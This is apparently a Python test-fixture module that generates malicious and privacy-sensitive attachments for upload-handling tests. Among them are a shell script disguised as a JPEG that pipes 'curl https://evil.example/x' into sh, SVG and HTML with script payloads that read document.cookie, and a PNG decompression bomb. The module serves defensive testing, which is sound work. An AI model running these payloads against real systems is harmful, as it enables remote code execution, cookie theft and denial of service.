"""Files for the attachment tests, made here: photos with EXIF location, PDFs, disguised
scripts, SVG and HTML, decompression bombs."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

#: GPS tags of an EXIF block (IFD 0x8825): latitude 52° 13' N, longitude 21° 0' E.
GPS_IFD = 0x8825


def photo_with_location(size=(800, 600), color=(200, 60, 30)) -> bytes:
    """A JPEG photo whose EXIF says where it was taken (GPS) and with what camera."""
    image = Image.new("RGB", size, color)
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Phone 12"  # Model
    exif[0x0112] = 1  # Orientation
    exif.get_ifd(GPS_IFD).update({
        1: "N", 2: (52.0, 13.0, 0.0), 3: "E", 4: (21.0, 0.0, 0.0),
    })
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=85)
    return out.getvalue()


def png(size=(64, 48), mode="RGBA") -> bytes:
    """A small PNG with a text chunk (metadata that must not survive)."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret author note")
    out = io.BytesIO()
    Image.new(mode, size, (10, 120, 200, 255) if mode == "RGBA" else 128).save(
        out, "PNG", pnginfo=info
    )
    return out.getvalue()


def pdf() -> bytes:
    """A minimal PDF (a return label)."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


SCRIPT_AS_JPG = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script><circle r='5'/></svg>"
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png_bomb(side: int = 9000) -> bytes:
    """A PNG of ``side`` x ``side`` grey pixels that is a few hundred KB compressed: decoded
    it would take ``side``² bytes (81 MB for 9,000, over the 40 M pixels allowed)."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * side
    body = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body)
            + _chunk(b"IEND", b""))
